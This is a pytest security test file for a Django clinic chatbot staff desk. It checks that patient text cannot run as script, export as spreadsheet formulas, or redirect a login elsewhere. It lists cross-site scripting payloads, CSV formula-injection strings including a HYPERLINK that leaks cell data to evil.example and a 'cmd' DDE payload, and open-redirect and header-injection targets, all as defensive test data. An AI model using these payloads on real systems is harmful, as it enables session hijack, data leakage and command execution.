"""What a patient writes does nothing at the desk but stand there: no script runs, no cell computes, no link leads away."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from selenium import webdriver
from selenium.webdriver.common.by import By

from bot.desk.models import Note
from bot.records.models import Alert, AuditRow, Conversation, Message
from tests.desk.conftest import PASSWORD, wait
from tests.desk.test_browser import complaints

SCRIPTS = (
    "<script>document.title='owned'</script>", "<img src=x onerror=\"document.title='owned'\">",
    "<svg/onload=document.title='owned'>", "</textarea></title></style></script><script>document.title='owned'</script>",
    "<a href=\"javascript:document.title='owned'\">click me</a>", "javascript:document.title='owned'",
    "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\">", "\"><body onload=document.title='owned'>",
    "' autofocus onfocus='document.title=\"owned\"", "<style>*{display:none}</style>", "<base href='https://evil.example/'>",
    "<form action='https://evil.example/'><input name=q><button id=go>", "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "{{constructor.constructor('document.title=`owned`')()}}", "<details open ontoggle=document.title='owned'>",
    "\u202e<script>document.title='owned'</script>", "<scr\u0000ipt>document.title='owned'</scr\u0000ipt>",
    "data:text/html,<script>document.title='owned'</script>", "https://evil.example/?<script>", "&lt;script&gt;document.title='owned'&lt;/script&gt;")
FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u00a0=1+1", "\u200b=1+1", "＝1+1",
            '=HYPERLINK("https://evil.example/?"&A1,"see")', "=cmd|' /C calc'!A0", "%0A=1+1", "|calc", '"=1+1', "a,=1+1", 'a","=1+1')


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_no_script_of_a_patient_runs_at_the_desk(desk: webdriver.Chrome, live_server: Any, crisis: Conversation) -> None:
    for text in SCRIPTS:
        said = Message.objects.create(conversation=crisis, sender="patient", text=text)
        Message.objects.create(conversation=crisis, sender="bot", kind="abstain", text="We don't know that.", answers=said,
                               extra={"topic": text, "choices": [{"label": text, "send": "/x"}]})
        Note.objects.create(conversation=crisis, author=get_user_model().objects.first(), text=text)
    said = crisis.messages.order_by("id")[0].pk
    for path in ("", f"c/{crisis.case}/", f"m/{said}/review/", "review/", "unanswered/", "figures/", "audit/",
                 "?words=%3Cscript%3Edocument.title%3D'owned'%3C/script%3E", "audit/?who=%22%3E%3Cscript%3Edocument.title='owned'%3C/script%3E"):
        desk.get(f"{live_server.url}/desk/{path}")
        wait(desk, lambda: desk.execute_script("return document.readyState") == "complete")
        assert "owned" not in desk.title, path
        assert desk.current_url.startswith(f"{live_server.url}/desk/"), path
        assert complaints(desk) == [], path  # the policy had nothing to stop: the text was no markup to begin with
        for tag in ("script:not([src])", "iframe", "base", "meta[http-equiv=refresh]", "[onerror]", "[onload]", "[onfocus]"):
            assert not desk.find_elements(By.CSS_SELECTOR, f"body {tag}"), (path, tag)
        assert not [link for link in desk.find_elements(By.TAG_NAME, "a")
                    if "evil" in (link.get_attribute("href") or "") or "script:" in (link.get_attribute("href") or "")], path


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_what_arrives_live_is_text_too(desk: webdriver.Chrome, live_server: Any, crisis: Conversation) -> None:
    desk.get(f"{live_server.url}/desk/c/{crisis.case}/")
    for text in SCRIPTS:
        Message.objects.create(conversation=crisis, sender="patient", text=text)
    Message.objects.create(conversation=crisis, sender="patient", text="the last one")
    wait(desk, lambda: "the last one" in desk.find_element(By.ID, "lines").text)
    shown = desk.find_element(By.ID, "lines").text
    assert "<svg/onload=document.title='owned'>" in shown and "<iframe srcdoc" in shown
    assert "owned" not in desk.title and complaints(desk) == []
    assert not desk.find_elements(By.CSS_SELECTOR, "#lines script, #lines iframe, #lines svg, #lines img[src=x], #lines form")


@pytest.mark.django_db
def test_no_cell_of_an_export_is_a_formula(enter: Callable[..., Client], crisis: Conversation) -> None:
    for text in FORMULAS:
        Message.objects.create(conversation=crisis, sender="patient", text=text)
    answer = enter().post(f"/desk/c/{crisis.case}/export/", {"format": "csv", "reason": "records", "words": ""}, follow=True)
    assert answer["Content-Type"].startswith("text/csv"), answer.content[:300]
    rows = list(csv.reader(io.StringIO(answer.content.decode())))
    assert len(rows) >= len(FORMULAS) and len({len(row) for row in rows}) == 1  # no cell broke out of its row
    for row in rows[1:]:
        for cell in row:
            assert cell.lstrip(" \u00a0\u200b\t\r\n")[:1] not in ("=", "+", "-", "@", "|", "＝") or cell.startswith("'"), cell


@pytest.mark.django_db
def test_no_cell_of_the_audit_is_a_formula(enter: Callable[..., Client], person: Callable[..., Any]) -> None:
    client = enter("boss", "administrator")
    AuditRow.objects.create(actor=get_user_model().objects.create(username="=cmd|x"), action="view", detail="@SUM(1)")
    rows = list(csv.reader(io.StringIO(client.get("/desk/audit/file/").content.decode())))
    assert any(row[1] == "'=cmd|x" and row[4] == "'@SUM(1)" for row in rows)


@pytest.mark.django_db
@pytest.mark.parametrize("target", [
    "//evil.example/desk/", "https://evil.example/desk/", "///evil.example", "/\\evil.example", "\\\\evil.example", "/desk/../..//evil.example",
    "javascript:alert(1)", "https:desk", "/desk/\r\nLocation: https://evil.example", "http:///evil.example", "/desk/@evil.example",
    "%2F%2Fevil.example", "/desk//evil.example", "https://testserver@evil.example/desk/", "\thttps://evil.example", "/desk\\@evil.example"])
def test_signing_in_leads_to_the_desk_and_nowhere_else(person: Callable[..., Any], target: str) -> None:
    from tests.desk.conftest import fresh_code

    person("ana")
    client = Client()
    client.post("/desk/login/", {"name": "ana", "password": PASSWORD, "next": target})
    answer = client.post("/desk/code/", {"code": fresh_code()})
    assert answer.status_code == 302
    where = answer["Location"]
    assert where.startswith("/desk/") and "\n" not in where and "\r" not in where and not where.startswith("//")


@pytest.mark.django_db
def test_an_unknown_name_costs_and_says_the_same_as_a_wrong_password(person: Callable[..., Any], settings: Any,
                                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    from django.contrib.auth.hashers import Argon2PasswordHasher

    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.Argon2PasswordHasher"]
    user = person("ana")
    user.set_password(PASSWORD)
    user.save()
    runs: list[int] = []
    encode, verify = Argon2PasswordHasher.encode, Argon2PasswordHasher.verify
    monkeypatch.setattr(Argon2PasswordHasher, "encode", lambda self, *args: runs.append(1) or encode(self, *args))
    monkeypatch.setattr(Argon2PasswordHasher, "verify", lambda self, *args: runs.append(1) or verify(self, *args))

    def tried(name: str) -> tuple[int, int, str]:
        runs.clear()
        answer = Client().post("/desk/login/", {"name": name, "password": "wrong"})
        import re
        page = re.sub(r'value="\w{64}"', "", answer.content.decode())
        return answer.status_code, len(runs), page

    known, unknown = tried("ana"), tried("nobody")
    assert known == unknown and known[1] == 1  # the slow part runs once for both


@pytest.mark.django_db
def test_alerts_carry_no_word_that_could_be_markup(crisis: Conversation) -> None:
    from bot.records.alerts import queue_alert
    from bot.records.models import Outbox
    from bot.settings import get_settings

    Message.objects.create(conversation=crisis, sender="patient", text=SCRIPTS[0])
    clinic = get_settings().clinic.copy(update={"alerts": get_settings().clinic.alerts.copy(update={"emails": ("a@clinic.example",)})})
    queue_alert(clinic, Alert.objects.get(conversation=crisis))
    assert Outbox.objects.exists() and not any("<" in row.body + row.subject for row in Outbox.objects.all())
